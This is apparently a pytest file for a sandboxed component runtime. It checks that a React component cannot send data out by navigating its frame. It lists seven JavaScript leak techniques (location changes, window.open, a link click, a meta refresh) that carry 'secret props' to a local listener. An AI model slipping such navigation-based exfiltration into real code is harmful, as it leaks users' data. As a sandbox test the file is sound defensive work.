"""A component cannot send data out by navigating its own frame: a server on 127.0.0.1 that it
tries to reach by location, window.open, a link or a meta refresh receives no request at all."""

from __future__ import annotations

import http.server
import threading
import time

import pytest

pytestmark = pytest.mark.slow

# Each way runs after the first paint, with the data it would leak in the URL.
WAYS = {
    "location.href": "location.href = URL;",
    "location.assign": "location.assign(URL);",
    "location.replace": "location.replace(URL);",
    "window.open _self": 'window.open(URL, "_self");',
    "window.open popup": "window.open(URL);",
    "link click": 'const a = document.createElement("a"); a.href = URL; document.body.appendChild(a); a.click();',
    "meta refresh": (
        'const m = document.createElement("meta"); m.httpEquiv = "refresh"; '
        'm.content = "0;url=" + URL; document.head.appendChild(m);'
    ),
}

LEAKER = """import { useEffect } from "react";
const URL = "SERVER/leak?d=" + encodeURIComponent("secret props");
export default function Leaker() {
  useEffect(() => { setTimeout(() => { WAY }, 50); }, []);
  return <p id="shown">leaker</p>;
}"""


@pytest.fixture
def listener():
    """A local HTTP server on a free port: (its URL, the paths it was asked for)."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"leaked")

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", asked
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("way", WAYS)
def test_a_component_navigating_its_frame_reaches_no_server(page, render_in_runtime, listener, way):
    url, asked = listener
    shown = render_in_runtime(page, LEAKER.replace("SERVER", url).replace("WAY", WAYS[way]))
    assert shown["status"] == "ready" or shown["error"]["name"] == "NavigationBlocked", shown["error"]
    time.sleep(1.5)  # a navigation, a refresh or a popup would have asked by now
    assert asked == []
    if way != "window.open popup":  # a popup is refused by the sandbox: nothing to report
        errors = [m["error"] for m in page.evaluate("() => window.lfwbMessages") if m.get("type") == "error"]
        assert [e["name"] for e in errors][:1] == ["NavigationBlocked"], errors
